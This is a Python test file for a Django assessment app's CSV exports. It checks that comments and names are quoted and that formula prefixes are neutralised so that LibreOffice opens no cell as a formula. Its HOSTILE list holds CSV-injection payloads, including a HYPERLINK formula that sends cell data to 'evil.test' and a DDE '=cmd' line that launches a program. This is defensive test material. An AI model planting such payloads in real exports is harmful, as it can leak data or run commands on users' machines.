"""CSV exports opened by a real spreadsheet program (issue 12, item 13).

A comment like ``see;=HYPERLINK(…);`` used to be written unquoted; a spreadsheet whose
list separator is ``;`` (Swedish, Hungarian, Norwegian locales) splits a CSV file
there and ran the part after it as a formula. Every field is now quoted and every
``;``/``,``-separated part that starts like a formula is neutralised. LibreOffice
(Debian's ``libreoffice-calc-nogui``, installed by ``scripts/setup.sh``) opens each CSV
export with ``;`` and with ``,`` as the separator: no cell is a formula, and the text
is all there.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from assessments import offline, services
from assessments.models import Answer
from maturity_site.spreadsheets import csv_field, csv_text, restore
from tests.assessment_factories import make_assessment
from tests.catalog_factories import make_version
from tests.conftest import access_for, signed_in
from tests.report_samples import seed_rounds

HOSTILE = [
    'see;=HYPERLINK("http://evil.test/?"&A1;"click");',
    "fine, =1+1, +2; -3; @SUM(A1)",
    "line one\n=cmd|' /C calc'!A0",
    "'=already quoted",
    'x ; \t=tab',
]
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# .ci/run sets this: there, a missing LibreOffice is a failure, not a skip.
REQUIRED = bool(os.environ.get("REQUIRE_SPREADSHEET_APP"))


@pytest.mark.parametrize("text", HOSTILE + ["plain", "a-b", "x=y", "", "1,5", "-"])
def test_it_neutralises_every_part_and_restores_the_text(text):
    field = csv_field(text)
    for separator in (";", ",", "\n"):
        for part in field.split(separator):
            assert not part.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), field
    assert restore(field) == text


def test_it_quotes_every_field_and_keeps_numbers():
    text = csv_text(["a", "b", "c"], [["x;=1", None, -0.5]])
    assert text == '\ufeff"a","b","c"\r\n"x;\'=1","","-0.5"\r\n'


def _url(assessment, name, org="acme"):
    return reverse(f"assessments:{name}", kwargs={"org_slug": org,
                                                  "assessment_id": assessment.public_id})


@pytest.fixture
def exports(world):
    """Every CSV export with hostile text in it: name -> (bytes, hostile texts in it)."""
    assessment = make_assessment(world, anonymity="named")  # names are exported too
    access = access_for(world.acme.manager, world.acme.org)
    guest = services.respondent_invite(by=access, assessment=assessment,
                                       email="guest@example.test", name=HOSTILE[1])
    for key, comment in zip(["people.2.1", "people.3.1", "people.4.1", "customers.2.1",
                             "customers.3.1"], HOSTILE, strict=True):
        services.answer_save(response=guest, question_key=key, option="fully",
                             comment=comment)
    services.response_submit(response=guest)  # exports hold submitted answers only
    manager = signed_in(world.acme.manager)
    department = world.acme.departments[1]
    department.name = HOSTILE[0]
    department.save()
    seed_rounds(organisation=world.acme.org, version=make_version(slug="csv-model"),
                rounds=1, respondents=3, departments=[department],
                last_open=False)  # closed, anonymous from three: a result the export holds
    return {
        "answers": (manager.get(_url(assessment, "export_csv")).content, HOSTILE),
        "answer sheet": (manager.get(_url(assessment, "template_csv")).content, []),
        "results": (signed_in(world.acme.owner).get("/o/acme/reports/export.csv").content,
                    [HOSTILE[0]]),
    }


def test_an_exported_answer_sheet_comes_back_with_its_comments_as_written(world, exports):
    content, _texts = exports["answers"]
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0]["comment"] == csv_field(HOSTILE[0]) != HOSTILE[0]
    assessment = make_assessment(world, name="Again")
    response = signed_in(world.acme.manager).post(_url(assessment, "offline"), {
        "file": SimpleUploadedFile("answers.csv", content), "respondent": "new",
        "new_name": "Paper Pia"})
    assert response.status_code in (200, 302)
    comments = set(Answer.objects.filter(response__assessment=assessment)
                   .values_list("comment", flat=True))
    assert comments == set(HOSTILE)


def _open_in_libreoffice(files: dict[str, bytes], separator: str, tmp_path) -> dict:
    """Each CSV file as LibreOffice Calc reads it: the cells of each row, with whether
    each is a formula."""
    paths = []
    for name, content in files.items():
        path = tmp_path / f"{name.replace(' ', '-')}.csv"
        path.write_bytes(content)
        paths.append(str(path))
    out = tmp_path / f"out-{ord(separator)}"
    # CSV filter options: separator, text delimiter ("), UTF-8 (76), from line 1.
    subprocess.run(
        [SOFFICE, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo",
         "--convert-to", "xlsx", f"--infilter=CSV:{ord(separator)},34,76,1",
         "--outdir", str(out), *paths],
        check=True, capture_output=True, timeout=300)
    sheets = {}
    for name in files:
        workbook = load_workbook(out / f"{name.replace(' ', '-')}.xlsx")
        sheets[name] = [[(cell.value, cell.data_type) for cell in row]
                        for row in workbook.active.iter_rows()]
    return sheets


@pytest.mark.skipif(not SOFFICE and not REQUIRED,
                    reason="LibreOffice (soffice) is not installed here; scripts/setup.sh "
                           "installs libreoffice-calc-nogui, and CI runs this test")
def test_no_csv_export_becomes_a_formula_in_a_spreadsheet(exports, tmp_path):
    assert SOFFICE, "LibreOffice is required here (REQUIRE_SPREADSHEET_APP is set)"
    files = {name: content for name, (content, _texts) in exports.items()}
    for separator in (";", ","):
        sheets = _open_in_libreoffice(files, separator, tmp_path)
        for name, rows in sheets.items():
            formulas = [value for row in rows for value, kind in row if kind == "f"]
            assert formulas == [], (name, separator, formulas)
            shown = "\n".join(str(value) for row in rows for value, _kind in row
                              if value is not None)
            for text in exports[name][1]:
                # The text is all there, in whichever cells the separator put it.
                for word in ("HYPERLINK", "evil.test", "SUM(A1)", "calc", "already quoted",
                             "tab"):
                    if word in text:
                        assert word in shown, (name, separator, word)
        if separator == ",":
            answers = sheets["answers"]
            comments = [row[offline.EXPORT_COLUMNS.index("comment")][0]
                        for row in answers[1:]]
            assert comments == [csv_field(text) for text in HOSTILE]
